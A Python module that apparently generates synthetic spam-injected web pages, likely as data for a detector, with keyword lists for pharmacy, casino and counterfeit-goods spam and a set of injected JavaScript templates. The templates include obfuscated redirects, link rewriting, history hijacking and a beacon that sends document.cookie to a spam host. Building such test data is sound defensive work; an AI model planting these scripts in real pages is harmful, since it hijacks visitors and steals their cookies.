"""Other languages and other scripts; untuned until first runs of 0.92 and 0.64, then used to mend."""

# ruff: noqa: E501 (markup reads better on one line)
import base64
import random
from collections.abc import Callable

from clean_pages import Clean

JAPANESE = "腕時計 激安 通販|ルイヴィトン 財布 コピー|送料無料 スニーカー 新作|ブランドバッグ 偽物 販売|ゴルフクラブ 最安値|カジノ ボーナス"
KOREAN = "온라인카지노 추천|스포츠토토 배당|바카라 사이트|먹튀검증 업체|슬롯 무료"
ENGLISH = "buy oxycodone online no prescription|live casino real money|hot singles dating near you|cheap louis vuitton outlet|write my essay service|crypto casino bonus"
HOSTS = "www.brand-shop24.com kr-toto.info www.mypills-rx.net dhgd88.cc www.lvcopy.shop".split()


def foreign_words(source: random.Random, clean: Clean) -> str:
    """Put advertising in other languages into title, text or description."""
    lines = source.choice([JAPANESE, KOREAN, ENGLISH]).split("|")
    words = " | ".join(source.sample(lines, 3))
    way = source.randrange(3)
    if way == 0:
        return clean.html(title=words)
    if way == 1:
        return clean.html(last=f"<p>{words}</p>")
    return clean.html(head=f'<meta name="description" content="{words}">')


def other_scripts(source: random.Random, clean: Clean) -> str:
    """Let a script serve a stranger by other ways than those the reader of scripts was made for."""
    host = source.choice(HOSTS)
    codes = ",".join(str(ord(one)) for one in f"//{host}/")
    shifted = "".join(chr(ord(one) + 1) for one in f"//{host}/")
    escaped = base64.b64encode(f"top.location='http://{host}/'".encode()).decode()
    code = source.choice(
        [
            f"var u=[{codes}].map(function(c){{return String.fromCharCode(c)}}).join('');document.location=u;",
            f"var t='{shifted}',u='';for(var i=0;i<t.length;i++)u+=String.fromCharCode(t.charCodeAt(i)-1);location.href=u;",
            f"new Function(atob('{escaped}'))();",
            f"var l={{a:'http:',b:'//{host}'}};window.open(l.a+l.b,'_self');",
            f"const h='{host}';setTimeout(()=>{{location.href=`https://${{h}}/?r=${{document.referrer}}`}},800);",
            f"document.body.insertAdjacentHTML('beforeend','<a href=//{host}>在线</a>');",
            f"if(!localStorage.v){{localStorage.v=1;location='//'+'{host}'}}",
            f"var i=new Image();i.src='https://{host}/c.gif?k='+document.cookie;",
            f"[].forEach.call(document.links,function(a){{a.href='http://{host}/?'+a.href}});",
            f"history.pushState(0,'','#');onpopstate=function(){{location.replace(['//{host[:5]}','{host[5:]}'].join(''))}};",
        ]
    )
    return clean.html(last=f"<script>{code}</script>")


SIXTH: dict[str, Callable[[random.Random, Clean], str]] = {
    "foreign words": foreign_words,
    "other scripts": other_scripts,
}
